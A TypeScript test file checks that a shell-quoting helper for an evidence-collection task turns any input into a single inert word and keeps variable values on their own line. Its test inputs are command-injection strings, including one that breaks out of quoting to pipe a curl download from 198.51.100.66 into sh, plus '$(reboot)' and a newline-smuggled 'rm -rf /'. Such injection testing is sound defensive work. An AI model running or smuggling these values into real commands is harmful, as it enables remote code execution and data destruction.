import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { quoted, withVariables } from '../../../tasks/collect-volatile-evidence/shell';

const scripts = join(__dirname, '..', '..', '..', 'tasks', 'collect-volatile-evidence', 'scripts');

/** What a shell makes of a word. */
function echoed(word: string): string {
  return execFileSync('sh', ['-c', `printf %s ${word}`]).toString('utf8');
}

test.each([
  ["pod'; curl http://198.51.100.66/x | sh; '"],
  ['$(reboot)'],
  ['`id`'],
  ['a\nrm -rf /\nb'],
  ['"$IFS"&&:||!#'],
  ["'"],
  [''],
  ['--help'],
])('%j is one word to a shell, and means nothing', (text) => {
  expect(echoed(quoted(text))).toBe(text);
});

test('whatever a name holds, the shell sees that and nothing else', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 60 }), (text) => {
      expect(echoed(quoted(text))).toBe(text);
    }),
    { numRuns: 20 },
  );
});

test('a variable’s value cannot leave its line', () => {
  const script = withVariables('printf %s "$SUSPECT_PODS"', { SUSPECT_PODS: "x'\necho taken\n'" });
  expect(execFileSync('sh', ['-c', script]).toString('utf8')).toBe("x'\necho taken\n'");
});

test.each(readdirSync(scripts))('%s is a script that a POSIX shell can read', (name) => {
  expect(() => execFileSync('sh', ['-n', join(scripts, name)])).not.toThrow();
  expect(readFileSync(join(scripts, name), 'utf8')).not.toContain('eval');
});
